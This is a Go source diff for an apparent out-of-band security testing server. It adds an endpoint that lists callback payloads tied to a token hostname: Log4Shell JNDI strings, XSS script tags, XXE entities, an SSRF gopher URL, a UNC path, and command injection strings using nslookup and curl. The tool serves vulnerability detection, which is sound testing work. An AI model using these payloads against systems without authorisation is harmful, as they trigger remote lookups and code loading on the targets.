@@ -0,0 +1,87 @@
+package server
+
+import (
+	"fmt"
+	"net/http"
+	"slices"
+	"strings"
+
+	"github.com/rsclarke/oastrix/internal/apitypes"
+	"github.com/rsclarke/oastrix/internal/plugins"
+)
+
+func (s *APIServer) handleListPayloads(w http.ResponseWriter, r *http.Request) {
+	tok, ok := s.ownedToken(w, r)
+	if !ok {
+		return
+	}
+
+	domain := s.Domain
+	if d := r.URL.Query().Get("domain"); d != "" {
+		domains := append([]string{s.Domain}, s.Domains...)
+		i := slices.IndexFunc(domains, func(domain string) bool { return strings.EqualFold(domain, d) })
+		if i < 0 {
+			writeJSON(w, http.StatusBadRequest, map[string]string{"error": "unknown domain"})
+			return
+		}
+		domain = domains[i]
+	}
+
+	writeJSON(w, http.StatusOK, apitypes.ListPayloadsResponse{
+		Token:    tok.Token,
+		Payloads: s.payloadCatalog(tok.Token, domain),
+	})
+}
+
+// payloadCatalog returns the built-in payloads for tok under domain followed
+// by those contributed by plugins.
+func (s *APIServer) payloadCatalog(tok, domain string) []apitypes.Payload {
+	pc := plugins.PayloadContext{Token: tok, Domain: domain, PublicIP: s.PublicIP}
+	catalog := builtinPayloads(pc)
+	if s.Plugins != nil {
+		catalog = append(catalog, s.Plugins.Payloads(pc)...)
+	}
+
+	out := make([]apitypes.Payload, 0, len(catalog))
+	for _, p := range catalog {
+		out = append(out, apitypes.Payload{
+			Name:        p.Name,
+			Category:    p.Category,
+			Description: p.Description,
+			Value:       p.Value,
+		})
+	}
+	return out
+}
+
+// builtinPayloads returns payloads that only rely on the DNS and HTTP(S)
+// listeners. Anything that resolves the token hostname is recorded by the DNS
+// listener even when no connection follows.
+func builtinPayloads(pc plugins.PayloadContext) []plugins.Payload {
+	host := pc.Token + "." + pc.Domain
+	payloads := []plugins.Payload{
+		{Name: "dns", Category: "dns", Description: "Hostname; any lookup is recorded", Value: host},
+		{Name: "http", Category: "http", Description: "Plain HTTP URL", Value: fmt.Sprintf("http://%s/", host)},
+		{Name: "https", Category: "http", Description: "HTTPS URL", Value: fmt.Sprintf("https://%s/", host)},
+		{Name: "protocol_relative", Category: "http", Description: "Scheme-relative URL that inherits the page's scheme", Value: fmt.Sprintf("//%s/", host)},
+	}
+	if pc.PublicIP != "" {
+		payloads = append(payloads,
+			plugins.Payload{Name: "http_ip", Category: "http", Description: "HTTP URL by IP, for targets without DNS", Value: fmt.Sprintf("http://%s/oast/%s", pc.PublicIP, pc.Token)},
+			plugins.Payload{Name: "https_ip", Category: "http", Description: "HTTPS URL by IP, for targets without DNS", Value: fmt.Sprintf("https://%s/oast/%s", pc.PublicIP, pc.Token)},
+		)
+	}
+	return append(payloads,
+		plugins.Payload{Name: "log4j_dns", Category: "log4j", Description: "Log4Shell JNDI lookup over DNS", Value: fmt.Sprintf("${jndi:dns://%s/a}", host)},
+		plugins.Payload{Name: "log4j_ldap", Category: "log4j", Description: "Log4Shell JNDI lookup over LDAP; detected by the hostname lookup", Value: fmt.Sprintf("${jndi:ldap://%s/a}", host)},
+		plugins.Payload{Name: "xss_script", Category: "xss", Description: "Script tag loading from the token host", Value: fmt.Sprintf(`"><script src="https://%s/"></script>`, host)},
+		plugins.Payload{Name: "xss_img", Category: "xss", Description: "Image tag for contexts that strip scripts", Value: fmt.Sprintf(`"><img src="https://%s/x">`, host)},
+		plugins.Payload{Name: "xxe_entity", Category: "xxe", Description: "External general entity", Value: fmt.Sprintf(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://%s/">]><x>&e;</x>`, host)},
+		plugins.Payload{Name: "xxe_dtd", Category: "xxe", Description: "External parameter entity loading a remote DTD", Value: fmt.Sprintf(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY %% r SYSTEM "http://%s/x.dtd"> %%r;]><x/>`, host)},
+		plugins.Payload{Name: "ssrf_gopher", Category: "ssrf", Description: "Gopher URL sending a raw HTTP request to the HTTP listener", Value: fmt.Sprintf("gopher://%s:80/_GET%%20/%%20HTTP/1.0%%0d%%0aHost:%%20%s%%0d%%0a%%0d%%0a", host, host)},
+		plugins.Payload{Name: "smtp", Category: "smtp", Description: "Email address; mail servers look up the domain", Value: "oastrix@" + host},
+		plugins.Payload{Name: "unc", Category: "unc", Description: "Windows UNC path, e.g. for xp_dirtree or LOAD_FILE", Value: fmt.Sprintf(`\\%s\a`, host)},
+		plugins.Payload{Name: "cmd_nslookup", Category: "command", Description: "Command injection using nslookup", Value: "$(nslookup " + host + ")"},
+		plugins.Payload{Name: "cmd_curl", Category: "command", Description: "Command injection using curl", Value: fmt.Sprintf("`curl -s http://%s/`", host)},
+	)
+}